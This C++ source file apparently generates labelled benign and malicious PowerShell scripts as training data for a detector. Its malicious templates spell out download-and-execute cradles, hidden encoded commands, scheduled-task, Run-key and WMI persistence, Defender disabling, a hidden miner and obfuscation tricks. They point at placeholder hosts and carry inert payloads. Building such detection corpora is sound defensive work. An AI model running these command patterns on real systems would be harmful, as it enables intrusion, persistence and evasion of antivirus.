#include "psguard/synth.hpp"

#include <array>
#include <cctype>
#include <fstream>
#include <functional>
#include <sstream>

#include <boost/archive/iterators/base64_from_binary.hpp>
#include <boost/archive/iterators/transform_width.hpp>

#include "psguard/error.hpp"
#include "psguard/pipeline.hpp"
#include "psguard/rng.hpp"

namespace psguard {

std::string base64_encode(std::string_view bytes) {
    using namespace boost::archive::iterators;
    using It = base64_from_binary<transform_width<std::string_view::const_iterator, 6, 8>>;
    std::string out(It(bytes.begin()), It(bytes.end()));
    out.append((3 - bytes.size() % 3) % 3, '=');
    return out;
}

namespace {

template <std::size_t N>
std::string pick(Rng& rng, const std::array<std::string_view, N>& pool) {
    return std::string(pool[rng.uniform_index(N)]);
}

std::string hex(Rng& rng, std::size_t len) {
    static constexpr std::string_view digits = "0123456789ABCDEF";
    std::string s;
    for (std::size_t i = 0; i < len; ++i) s += digits[rng.uniform_index(16)];
    return s;
}

std::string number(Rng& rng, std::size_t lo, std::size_t hi) { return std::to_string(lo + rng.uniform_index(hi - lo + 1)); }

std::string utf16le(std::string_view ascii) {
    std::string out;
    for (const char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

class Writer {
public:
    Writer(Rng& rng, double obfuscation) : rng_(rng), obfuscation_(obfuscation) {
        split_strings_ = rng_.bernoulli(obfuscation * 0.5);
        mangle_case_ = rng_.bernoulli(obfuscation * 0.5);
        heavy_ = rng_.bernoulli(obfuscation);
    }

    Rng& rng() { return rng_; }
    [[nodiscard]] bool heavy() const { return heavy_; }
    [[nodiscard]] bool mangle_case() const { return mangle_case_; }
    [[nodiscard]] bool blob_emitted() const { return blob_emitted_; }

    std::string var(std::string_view base) {
        static constexpr std::array<std::string_view, 6> suffix{"", "", "1", "2", "x", "Tmp"};
        return "$" + std::string(base) + pick(rng_, suffix);
    }

    std::string domain() {
        static constexpr std::array<std::string_view, 5> tld{"example.com", "example.org", "example.net", "test",
                                                             "invalid"};
        static constexpr std::array<std::string_view, 8> host{"cdn", "update", "static", "files",
                                                              "img", "api", "dl", "mirror"};
        return pick(rng_, host) + number(rng_, 1, 99) + "." + pick(rng_, tld);
    }

    std::string doc_ip() {
        static constexpr std::array<std::string_view, 3> nets{"192.0.2.", "198.51.100.", "203.0.113."};
        return pick(rng_, nets) + number(rng_, 1, 254);
    }

    std::string url() {
        static constexpr std::array<std::string_view, 5> ext{".ps1", ".png", ".txt", ".dat", ".jpg"};
        const std::string host = rng_.bernoulli(0.5) ? domain() : doc_ip() + ":" + number(rng_, 1024, 65000);
        return "http://" + host + "/" + hex(rng_, 8) + pick(rng_, ext);
    }

    /// Single-quoted literal, split into a concatenation when obfuscating.
    std::string quoted(const std::string& s) {
        if (!split_strings_ || s.size() < 6) return "'" + s + "'";
        const std::size_t cut = 2 + rng_.uniform_index(s.size() - 4);
        return "('" + s.substr(0, cut) + "' + '" + s.substr(cut) + "')";
    }

    /// Inert placeholder script text of at least `min_chars` characters.
    std::string inert_payload(std::size_t min_chars) {
        std::string text;
        while (text.size() < min_chars) {
            text += "Write-Output 'inert placeholder " + hex(rng_, 6) + "'; Start-Sleep -Seconds " + number(rng_, 1, 9) +
                    "; ";
        }
        return text;
    }

    /// Base64 of an inert payload; long (>= 256 chars) when obfuscating.
    std::string blob(bool utf16) {
        const std::size_t chars = heavy_ ? 200 + rng_.uniform_index(120) : 20 + rng_.uniform_index(40);
        const std::string payload = inert_payload(chars);
        std::string b = base64_encode(utf16 ? utf16le(payload) : payload);
        if (b.size() >= 256) blob_emitted_ = true;
        return b;
    }

private:
    Rng& rng_;
    double obfuscation_;
    bool split_strings_ = false;
    bool mangle_case_ = false;
    bool heavy_ = false;
    bool blob_emitted_ = false;
};

using Template = std::function<std::string(Writer&)>;

struct Family {
    std::string_view name;
    Template build;
};

// ---- benign ---------------------------------------------------------------

std::string admin_dir(Rng& rng) {
    static constexpr std::array<std::string_view, 8> dirs{"C:\\Logs",        "C:\\inetpub\\logs", "D:\\Backups",
                                                          "C:\\ProgramData\\App", "E:\\Shares\\Team", "C:\\Temp",
                                                          "D:\\Reports",     "C:\\Scripts"};
    return pick(rng, dirs);
}

const std::vector<Family>& benign_pool() {
    static const std::vector<Family> pool{
        {"large-files",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string root = w.var("root");
             return root + " = '" + admin_dir(r) + "'\n" + "$limit = " + number(r, 10, 500) + "MB\n" +
                    "Get-ChildItem -Path " + root +
                    " -Recurse -File | Where-Object { $_.Length -gt $limit } | Sort-Object Length -Descending | "
                    "Select-Object -First " +
                    number(r, 5, 50) + " FullName, Length\n";
         }},
        {"service-report",
         [](Writer& w) {
             auto& r = w.rng();
             static constexpr std::array<std::string_view, 8> svcs{"Spooler", "W32Time", "BITS",     "WinRM",
                                                                   "Dhcp",    "Dnscache", "LanmanServer", "EventLog"};
             std::string list = "'" + pick(r, svcs) + "', '" + pick(r, svcs) + "', '" + pick(r, svcs) + "'";
             const std::string s = w.var("svc");
             return "$names = @(" + list + ")\nforeach (" + s + " in $names) {\n    $state = (Get-Service -Name " + s +
                    ").Status\n    Write-Output \"" + s + " is $state\"\n}\n";
         }},
        {"log-rotation",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string days = number(r, 7, 90);
             return "$logDir = '" + admin_dir(r) + "'\n$cutoff = (Get-Date).AddDays(-" + days +
                    ")\nGet-ChildItem -Path $logDir -Filter *.log | Where-Object { $_.LastWriteTime -lt $cutoff } | "
                    "ForEach-Object {\n    Compress-Archive -Path $_.FullName -DestinationPath ($_.FullName + '.zip') "
                    "-Force\n    Remove-Item $_.FullName\n}\n";
         }},
        {"disk-space",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string pct = number(r, 5, 30);
             return "$disks = Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DriveType=3\"\nforeach ($d in "
                    "$disks) {\n    $free = [math]::Round($d.FreeSpace / $d.Size * 100, 1)\n    if ($free -lt " +
                    pct + ") {\n        Write-Warning \"Drive $($d.DeviceID) has $free percent free\"\n    }\n}\n";
         }},
        {"backup-copy",
         [](Writer& w) {
             auto& r = w.rng();
             return "$source = '" + admin_dir(r) + "'\n$target = Join-Path '" + admin_dir(r) +
                    "' (Get-Date -Format yyyyMMdd)\nif (-not (Test-Path $target)) {\n    New-Item -ItemType Directory "
                    "-Path $target | Out-Null\n}\nCopy-Item -Path \"$source\\*\" -Destination $target -Recurse -Force\n"
                    "Write-Output \"Backup finished: $target\"\n";
         }},
        {"user-report",
         [](Writer& w) {
             auto& r = w.rng();
             return "Get-LocalUser | Select-Object Name, Enabled, LastLogon | Export-Csv -Path '" + admin_dir(r) +
                    "\\users_" + number(r, 1, 99) + ".csv' -NoTypeInformation\n";
         }},
        {"process-top",
         [](Writer& w) {
             auto& r = w.rng();
             return "Get-Process | Sort-Object WorkingSet -Descending | Select-Object -First " + number(r, 3, 20) +
                    " Name, Id, WorkingSet | Format-Table -AutoSize\n";
         }},
        {"ping-hosts",
         [](Writer& w) {
             auto& r = w.rng();
             static constexpr std::array<std::string_view, 6> hosts{"fileserver", "printsrv", "dc01",
                                                                    "web02",      "db01",     "backup01"};
             return "function Test-Hosts {\n    param([string[]]$Names)\n    foreach ($n in $Names) {\n        $ok = "
                    "Test-Connection -ComputerName $n -Count " +
                    number(r, 1, 4) +
                    " -Quiet\n        [pscustomobject]@{ Host = $n; Online = $ok }\n    }\n}\nTest-Hosts -Names '" +
                    pick(r, hosts) + "', '" + pick(r, hosts) + "'\n";
         }},
        {"event-summary",
         [](Writer& w) {
             auto& r = w.rng();
             static constexpr std::array<std::string_view, 3> logs{"System", "Application", "Setup"};
             return "Get-WinEvent -LogName " + pick(r, logs) + " -MaxEvents " + number(r, 100, 2000) +
                    " | Group-Object ProviderName | Sort-Object Count -Descending | Select-Object -First " +
                    number(r, 5, 15) + " Name, Count\n";
         }},
        {"config-update",
         [](Writer& w) {
             auto& r = w.rng();
             static constexpr std::array<std::string_view, 5> keys{"RetentionDays", "MaxItems", "TimeoutSeconds",
                                                                   "BatchSize", "Port"};
             const std::string path = admin_dir(r) + "\\settings.json";
             return "$path = '" + path + "'\n$cfg = Get-Content -Raw $path | ConvertFrom-Json\n$cfg." + pick(r, keys) +
                    " = " + number(r, 1, 900) + "\n$cfg | ConvertTo-Json -Depth 4 | Set-Content -Path $path\n";
         }},
        {"temp-cleanup",
         [](Writer& w) {
             auto& r = w.rng();
             return "$count = 0\n$files = Get-ChildItem -Path $env:TEMP -File\nfor ($i = 0; $i -lt $files.Count; $i++) "
                    "{\n    if ($files[$i].Length -eq 0) {\n        Remove-Item $files[$i].FullName -ErrorAction "
                    "SilentlyContinue\n        $count++\n    }\n}\nWrite-Output \"Removed $count empty files (limit " +
                    number(r, 10, 99) + ")\"\n";
         }},
        {"hotfix-list",
         [](Writer& w) {
             auto& r = w.rng();
             return "Get-HotFix | Where-Object { $_.InstalledOn -gt (Get-Date).AddDays(-" + number(r, 30, 365) +
                    ") } | Sort-Object InstalledOn | Format-List HotFixID, Description, InstalledOn\n";
         }},
    };
    return pool;
}

// ---- malicious --------------------------------------------------------------

std::string hidden_ps(Writer& w) {
    static constexpr std::array<std::string_view, 3> forms{"powershell -w hidden -nop -c ", "powershell.exe -NoP -W Hidden -c ",
                                                           "powershell -ep bypass -w 1 -c "};
    return pick(w.rng(), forms);
}

const std::vector<Family>& malicious_pool() {
    static const std::vector<Family> pool{
        {"download-cradle",
         [](Writer& w) {
             return "IEX (New-Object Net.WebClient).DownloadString(" + w.quoted(w.url()) + ")\n";
         }},
        {"encoded-command",
         [](Writer& w) {
             return "powershell.exe -NoP -NonI -W Hidden -Enc " + w.blob(true) + "\n";
         }},
        {"assembly-load",
         [](Writer& w) {
             const std::string b = w.var("bytes");
             return b + " = (New-Object Net.WebClient).DownloadData(" + w.quoted(w.url()) +
                    ")\n[System.Reflection.Assembly]::Load(" + b + ") | Out-Null\n[Loader" + hex(w.rng(), 3) +
                    ".Program]::Main()\n";
         }},
        {"base64-invoke",
         [](Writer& w) {
             const std::string s = w.var("code");
             return s + " = '" + w.blob(false) +
                    "'\nInvoke-Expression ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String(" +
                    s + ")))\n";
         }},
        {"scheduled-task",
         [](Writer& w) {
             auto& r = w.rng();
             return "schtasks /create /tn \"WindowsUpdate" + hex(r, 4) + "\" /tr \"" + hidden_ps(w) +
                    "IEX (New-Object Net.WebClient).DownloadString('" + w.url() + "')\" /sc minute /mo " +
                    number(r, 5, 60) + " /f\n";
         }},
        {"run-key",
         [](Writer& w) {
             auto& r = w.rng();
             return "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Svc" +
                    hex(r, 4) + "' -Value \"" + hidden_ps(w) + "IEX (iwr '" + w.url() +
                    "' -UseBasicParsing)\" -PropertyType String -Force | Out-Null\n";
         }},
        {"msi-loader",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string host = "http://" + w.doc_ip() + ":" + number(r, 1024, 65000) + "/";
             return "IEX (New-Object Net.WebClient).DownloadString(" + w.quoted(host + hex(r, 8) + ".Png") +
                    ");\nMsiMake " + host + hex(r, 8) + ".Png\n";
         }},
        {"hidden-miner",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string exe = "\"$env:TEMP\\" + hex(r, 6) + ".exe\"";
             return "Start-Process -FilePath " + exe + " -WindowStyle Hidden -ArgumentList '-o stratum+tcp://pool" +
                    number(r, 1, 9) + ".example.net:" + number(r, 3333, 9999) + " -u W" + hex(r, 24) +
                    " -p x --donate-level 1'\n";
         }},
        {"kill-competitors",
         [](Writer& w) {
             const std::string n = w.var("name");
             return "$rivals = @('xmrig', 'minerd', 'cpuminer', 'xmr-stak', 'nicehash')\nforeach (" + n +
                    " in $rivals) {\n    Get-Process -Name " + n +
                    " -ErrorAction SilentlyContinue | Stop-Process -Force\n}\n";
         }},
        {"drop-and-run",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string out = "\"$env:APPDATA\\" + hex(r, 6) + ".exe\"";
             return "Invoke-WebRequest -Uri " + w.quoted(w.url()) + " -OutFile " + out + "\nStart-Process " + out +
                    " -WindowStyle Hidden\n";
         }},
        {"wmi-subscription",
         [](Writer& w) {
             auto& r = w.rng();
             return "$filter = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{ Name = "
                    "'Flt" +
                    hex(r, 4) +
                    "'; EventNamespace = 'root\\cimv2'; QueryLanguage = 'WQL'; Query = \"SELECT * FROM "
                    "__InstanceModificationEvent WITHIN " +
                    number(r, 30, 300) +
                    " WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\" }\n$consumer = Set-WmiInstance "
                    "-Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'Con" +
                    hex(r, 4) + "'; CommandLineTemplate = \"" + hidden_ps(w) + "IEX (iwr '" + w.url() + "')\" }\n";
         }},
        {"defender-exclusion",
         [](Writer& w) {
             auto& r = w.rng();
             static constexpr std::array<std::string_view, 3> paths{"$env:TEMP", "$env:APPDATA", "C:\\ProgramData"};
             return "Add-MpPreference -ExclusionPath \"" + pick(r, paths) +
                    "\" -Force\nSet-MpPreference -DisableRealtimeMonitoring $true\n";
         }},
        {"xor-decoder",
         [](Writer& w) {
             auto& r = w.rng();
             const std::string d = w.var("data");
             return "$key = 0x" + hex(r, 2) + "\n" + d + " = [System.Convert]::FromBase64String('" + w.blob(false) +
                    "')\nfor ($i = 0; $i -lt " + d + ".Length; $i++) { " + d + "[$i] = " + d +
                    "[$i] -bxor $key }\nIEX ([System.Text.Encoding]::ASCII.GetString(" + d + "))\n";
         }},
        {"certutil-fetch",
         [](Writer& w) {
             auto& r = w.rng();
             return "certutil -urlcache -split -f " + w.url() + " C:\\Users\\Public\\" + hex(r, 6) +
                    ".exe\nStart-Process C:\\Users\\Public\\" + hex(r, 6) + ".exe -WindowStyle Hidden\n";
         }},
    };
    return pool;
}

/// Appended when an obfuscated script did not already carry a long blob.
std::string encoded_stage(Writer& w) {
    if (w.rng().bernoulli(0.5)) return "powershell.exe -NoP -NonI -W Hidden -Enc " + w.blob(true) + "\n";
    const std::string s = w.var("stage");
    return s + " = '" + w.blob(false) +
           "'\nIEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String(" + s + ")))\n";
}

constexpr std::array<std::string_view, 10> kMangleWords{
    "IEX",         "New-Object", "Net.WebClient", "DownloadString", "Invoke-Expression",
    "Start-Process", "Invoke-WebRequest", "DownloadData", "Hidden", "FromBase64String"};

std::string mangle(std::string text, Rng& rng) {
    for (const auto word : kMangleWords) {
        for (std::size_t at = text.find(word); at != std::string::npos; at = text.find(word, at + word.size())) {
            for (std::size_t k = 0; k < word.size(); ++k) {
                char& c = text[at + k];
                if (std::isalpha(static_cast<unsigned char>(c)) && rng.bernoulli(0.5)) {
                    c = std::isupper(static_cast<unsigned char>(c)) ? static_cast<char>(std::tolower(c))
                                                                    : static_cast<char>(std::toupper(c));
                }
            }
        }
    }
    return text;
}

std::string build(const std::vector<Family>& pool, Writer& w, std::string& family, bool malicious) {
    auto& r = w.rng();
    const std::size_t parts = 1 + r.uniform_index(malicious ? 2 : 3);
    std::string text;
    if (!malicious) {
        static constexpr std::array<std::string_view, 5> headers{
            "# Maintenance task", "# Scheduled housekeeping", "# Inventory helper", "# Daily report", "# Ops check"};
        text += pick(r, headers) + " " + number(r, 1, 40) + "\n";
    } else if (r.bernoulli(0.4)) {
        text += "$ErrorActionPreference = 'SilentlyContinue'\n";
    }
    for (std::size_t k = 0; k < parts; ++k) {
        const Family& f = pool[r.uniform_index(pool.size())];
        if (k == 0) family = std::string(f.name);
        text += f.build(w);
    }
    if (malicious && w.heavy() && !w.blob_emitted()) text += encoded_stage(w);
    if (malicious && w.mangle_case()) text = mangle(std::move(text), r);
    return text;
}

std::string script_id(bool malicious, std::size_t index) {
    std::ostringstream out;
    out << (malicious ? "malicious_" : "benign_");
    out.width(4);
    out.fill('0');
    out << index << ".ps1";
    return out.str();
}

}  // namespace

std::vector<std::string> benign_families() {
    std::vector<std::string> out;
    for (const auto& f : benign_pool()) out.emplace_back(f.name);
    return out;
}

std::vector<std::string> malicious_families() {
    std::vector<std::string> out;
    for (const auto& f : malicious_pool()) out.emplace_back(f.name);
    return out;
}

std::vector<SourceScript> generate(const GeneratorSpec& spec) {
    if (!(spec.obfuscation >= 0.0 && spec.obfuscation <= 1.0)) throw Error("generator: obfuscation must be in [0, 1]");
    std::vector<SourceScript> out;
    out.reserve(spec.n_benign + spec.n_malicious);
    const auto make = [&](bool malicious, std::size_t index) {
        Rng rng(Rng::derive(spec.seed, 2 * index + (malicious ? 1 : 0)));
        Writer w(rng, malicious ? spec.obfuscation : 0.0);
        std::string family;
        std::string text = build(malicious ? malicious_pool() : benign_pool(), w, family, malicious);
        out.push_back({script_id(malicious, index), std::move(text), malicious ? 1 : 0, std::move(family)});
    };
    for (std::size_t i = 0; i < spec.n_benign; ++i) make(false, i);
    for (std::size_t i = 0; i < spec.n_malicious; ++i) make(true, i);
    return out;
}

std::filesystem::path write_corpus(const std::filesystem::path& dir, const std::vector<SourceScript>& scripts) {
    std::error_code ec;
    std::filesystem::create_directories(dir, ec);
    if (ec) throw Error("cannot create " + dir.string() + ": " + ec.message());
    CorpusManifest manifest;
    manifest.base_dir = dir;
    for (const auto& s : scripts) {
        if (!s.label) throw Error("write_corpus: script " + s.id + " has no label");
        std::ofstream out(dir / s.id, std::ios::binary);
        if (!out) throw Error("cannot write " + (dir / s.id).string());
        out << s.text;
        manifest.entries.push_back({s.id, *s.label, s.origin});
    }
    const auto path = dir / "manifest.csv";
    write_manifest(path, manifest);
    return path;
}

}  // namespace psguard
